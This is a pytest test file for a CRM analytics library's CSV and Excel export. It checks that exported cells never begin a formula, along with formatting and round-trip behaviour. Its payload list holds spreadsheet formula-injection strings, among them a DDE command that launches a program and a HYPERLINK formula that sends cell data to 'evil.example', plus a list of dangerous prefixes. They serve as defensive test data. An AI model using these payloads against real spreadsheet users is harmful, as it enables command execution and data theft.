"""Sheets hold no formulas, and what they hold comes back unchanged."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date, datetime

import openpyxl
import polars as pl
import pytest
from polars.testing import assert_frame_equal

from crm_analytics.errors import SourceError, TooLargeError
from crm_analytics.extracts.cells.formula_guard import unguard_text
from crm_analytics.extracts.readers import read_customers
from crm_analytics.reports import sheets
from crm_analytics.terms import SHARED, Term

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    " =1+1",
    "＝1+1",  # noqa: RUF001 the wide equals sign is the point
    "|=1+1",
    "%=1+1",
    '"=1+1',
    "'=1+1",
    'x",=1+1',
    "x;=1+1;y",
)
BLANK = " \t\r\n\x00"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝")  # noqa: RUF001


def evil() -> pl.DataFrame:
    return pl.DataFrame({"name": PAYLOADS, "=SUM(A1)": PAYLOADS, "spend": [-1.5] * len(PAYLOADS)})


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def test_no_text_of_a_csv_begins_a_formula():
    heading, *rows = cells(sheets.csv_bytes(evil()))
    texts = [*heading, *(text for row in rows for text in row[:2])]
    assert len(rows) == len(PAYLOADS) == 18
    assert not [t for t in texts if t.lstrip(" ").startswith(DANGEROUS)]


def test_the_texts_of_a_csv_come_back():
    heading, *rows = cells(sheets.csv_bytes(evil()))
    assert [unguard_text(h) for h in heading] == ["name", "=SUM(A1)", "spend"]
    assert [unguard_text(row[0]) for row in rows] == list(PAYLOADS)


def test_numbers_of_a_csv_stay_numbers():
    heading, *rows = cells(sheets.csv_bytes(pl.DataFrame({"a": [-5.0, None], "n": [-3, 7]})))
    assert heading == ["a", "n"]
    assert rows == [["-5.0", "-3"], ["", "7"]]


def test_a_csv_writes_days_instants_flags_and_lists_plainly():
    frame = pl.DataFrame(
        {
            "day": [date(2026, 3, 1)],
            "at": [datetime(2026, 3, 1, 9, 30)],
            "flag": [True],
            "codes": [["=a", "b"]],
            "nothing": pl.Series([None], dtype=pl.Null),
        }
    )
    assert sheets.csv_bytes(frame) == (
        b"day,at,flag,codes,nothing\n2026-03-01,2026-03-01 09:30:00,true,'=a; b,\n"
    )


def test_a_byte_order_mark_leads_only_text_beyond_ascii():
    assert sheets.csv_bytes(pl.DataFrame({"n": ["Ann"]})).startswith(b"n")
    assert sheets.csv_bytes(pl.DataFrame({"n": ["Müller"]})).startswith(b"\xef\xbb\xbfn")


def test_a_workbook_holds_no_formula():
    data = sheets.xlsx_bytes({"=cmd": evil()}, SHARED, "EUR", background=[("=a", "=b")])
    found = [
        cell for sheet in book(data) for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert len(found) > 3 * len(PAYLOADS)
    assert not [c for c in found if c.data_type == "f" or c.hyperlink]
    assert not [c for c in found if isinstance(c.value, str) and c.value.startswith(DANGEROUS)]


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_spreadsheet_program_finds_no_formula(tmp_path, kind):
    source, out = tmp_path / f"evil.{kind}", tmp_path / "out"
    source.write_bytes(sheets.csv_bytes(evil()) if kind == "csv" else sheets.xlsx_bytes({"evil": evil()}))
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", out, source]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    reopened = openpyxl.load_workbook(out / "evil.xlsx")
    found = [cell for sheet in reopened for row in sheet.iter_rows() for cell in row]
    assert len(found) >= 3 * len(PAYLOADS)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]


def figures() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "customer_id": ["00017", "00018"],
            "spend": [1234.5, -3.0],
            "spend_share": [0.25, None],
            "n_orders": [3, 1],
            "recency_days": [10.5, 2.0],
            "last_ordered_on": [date(2026, 3, 1), date(1850, 1, 1)],
        }
    )


def test_a_workbook_has_headings_in_words_and_formats_by_unit():
    sheet = book(sheets.xlsx_bytes({"customers": figures()}, SHARED, "GBP"))["Customers"]
    heading, first, second = list(sheet.iter_rows())
    words = ["Customer", "Spend (£)", "Share of spend", "Orders", "Days since last order", "Last order"]
    assert [c.value for c in heading] == words
    assert [c.value for c in first] == ["00017", 1234.5, 0.25, 3, 10.5, datetime(2026, 3, 1)]
    assert [c.number_format for c in first] == [
        "General",
        "#,##0.00",
        "0.0%",
        "#,##0",
        "#,##0.0",
        "d mmm yyyy",
    ]
    assert [c.value for c in second] == ["00018", -3, None, 1, 2, "1850-01-01"]
    assert sheet.freeze_panes == "B2"
    assert sheet.column_dimensions["A"].width > 8


def test_a_workbook_says_what_its_words_mean_and_where_they_come_from():
    data = sheets.xlsx_bytes({"customers": figures()}, SHARED, background=[("Source", "orders.csv")])
    found = book(data)
    assert found.sheetnames == ["Customers", "Definitions", "About"]
    meanings = dict(found["Definitions"].iter_rows(values_only=True))
    assert meanings["Spend"] == "Sum of amounts, net of refunds."
    assert list(found["About"].iter_rows(values_only=True)) == [("Source", "orders.csv")]


def test_no_two_headings_of_a_sheet_read_alike():
    terms = {
        name: Term(name, label, unit, "")
        for name, label, unit in (
            ("driver", "Driver", "text"), ("driver_label", "Driver", "text"), ("n", "Answers", "count"),
            ("retention_rate", "Retention", "share"), ("shown_value", "Retention", "share"),
        )
    }  # fmt: skip
    row = {
        "driver": ["ease"],
        "driver_label": ["Ease"],
        "n": [3],
        "retention_rate": [0.2],
        "shown_value": [0.2],
    }
    found = book(sheets.xlsx_bytes({"drivers": pl.DataFrame(row)}, terms))
    sheet = found["Drivers"]
    assert [c.value for c in next(sheet.iter_rows())] == [
        "Driver (as stored)", "Driver", "Answers", "Retention (retention_rate)", "Retention (shown_value)",
    ]  # fmt: skip
    assert [c.value for c in found["Definitions"]["A"]] == [c.value for c in next(sheet.iter_rows())]


def test_headings_of_words_stand_in_as_their_cells_do():
    frame = pl.DataFrame({"n": [1], "finding_text": ["a"]})
    sheet = book(sheets.xlsx_bytes({"summary": frame}))["Summary"]
    assert (sheet["B1"].alignment.indent, sheet["B2"].alignment.indent) == (1, 1)
    assert sheet["A1"].alignment.indent == 0


def test_equal_tables_give_equal_workbooks():
    assert sheets.xlsx_bytes({"a": figures()}) == sheets.xlsx_bytes({"a": figures()})


def test_names_of_sheets_are_made_fit_and_different():
    frame = figures()
    found = book(
        sheets.xlsx_bytes({"a" * 40: frame, "a" * 41: frame, "x/y:z": frame, "about": frame})
    ).sheetnames
    assert found == ["A" + "a" * 30, "A" + "a" * 25 + " (2)", "X y z", "About (2)"]


def test_what_is_not_a_number_stays_empty():
    frame = pl.DataFrame({"spend": [float("nan"), float("inf"), 1.0]})
    assert [c.value for (c,) in book(sheets.xlsx_bytes({"t": frame}))["T"].iter_rows()] == [
        "spend",
        None,
        None,
        1,
    ]


def test_instants_with_a_zone_keep_it_as_text():
    frame = pl.DataFrame({"at": [datetime(2026, 3, 1, 9, 30)]}).with_columns(
        pl.col("at").dt.replace_time_zone("UTC")
    )
    assert book(sheets.xlsx_bytes({"t": frame}))["T"]["A2"].value == "2026-03-01 09:30:00+0000"
    assert sheets.csv_bytes(frame) == b"at\n2026-03-01 09:30:00+0000\n"


def test_long_text_is_wrapped_in_a_row_high_enough():
    sheet = book(sheets.xlsx_bytes({"t": pl.DataFrame({"name": ["a", "word " * 40]})}))["T"]
    assert sheet["A3"].alignment.wrap_text
    assert sheet.column_dimensions["A"].width < 62
    assert sheet.row_dimensions[3].height >= 4 * 15
    assert sheet.row_dimensions[2].height is None


def test_overlong_text_ends_in_an_ellipsis():
    value = book(sheets.xlsx_bytes({"t": pl.DataFrame({"comment": ["x" * 40_000]})}))["T"]["A2"].value
    assert len(value) == sheets.MOST_CHARACTERS
    assert value.endswith("x…")


def test_a_table_longer_than_a_sheet_is_refused_with_the_way_out(monkeypatch):
    monkeypatch.setattr(sheets, "MOST_ROWS", 1)
    with pytest.raises(TooLargeError, match=r"'T' has 2 rows.*A sheet holds 1.*CSV"):
        sheets.xlsx_bytes({"t": figures()})


def test_a_frame_is_not_changed_by_writing():
    before, frame = figures(), figures()
    sheets.csv_bytes(frame)
    sheets.xlsx_bytes({"t": frame}, SHARED)
    assert_frame_equal(frame, before)


def test_a_csv_file_is_written_where_asked(tmp_path):
    path = sheets.write_csv(tmp_path / "new" / "t.csv", pl.DataFrame({"a": [1]}))
    assert path.read_text() == "a\n1\n"


def test_a_place_that_cannot_be_written_is_a_clear_error(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(SourceError, match=r"could not be written.*Choose another place"):
        sheets.write_csv(tmp_path / "file" / "t.csv", pl.DataFrame({"a": [1]}))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_goes_out_comes_back_through_the_reader(tmp_path, kind):
    ids = [f"{i:03d}" for i in range(len(PAYLOADS))]
    frame = pl.DataFrame({"customer_id": ids, "name": PAYLOADS, "phone": "+49 30 12 34"})
    path = tmp_path / f"customers.{kind}"
    path.write_bytes(
        sheets.csv_bytes(frame) if kind == "csv" else sheets.xlsx_bytes({"customers": frame}, SHARED)
    )
    back = read_customers(path).frame.sort("customer_id").collect()
    assert back["customer_id"].to_list() == ids
    assert back["phone"].to_list() == ["+49 30 12 34"] * len(ids)
    # The reader trims white space; otherwise not a character has changed.
    assert [name.strip(BLANK) for name in back["name"]] == [text.strip(BLANK) for text in PAYLOADS]


def test_a_small_number_never_reads_as_nought():
    numbers = pl.DataFrame({"p_value": [2e-9, 0.03], "mean_orders": [0.002, 3.0], "other": [1.5, 2.0]})
    terms = {n: Term(n, n, "number", "") for n in numbers.columns}
    first = list(book(sheets.xlsx_bytes({"x": numbers}, terms))["X"].iter_rows())[1]
    assert [c.number_format for c in first] == ['[<0.0001]"< 0.0001";0.0000', "#,##0.0000", "#,##0.00"]


@pytest.mark.parametrize(
    "name", ["p_value", "rest_p_corrected", "unique_p_bh", "log_rank_p_holm", "corrected_p"]
)
def test_columns_of_p_values_are_known_by_their_name(name):
    frame = pl.DataFrame({name: [0.5]})
    data = sheets.xlsx_bytes({"x": frame}, {name: Term(name, name, "number", "")})
    assert book(data)["X"]["A2"].number_format == '[<0.0001]"< 0.0001";0.0000'
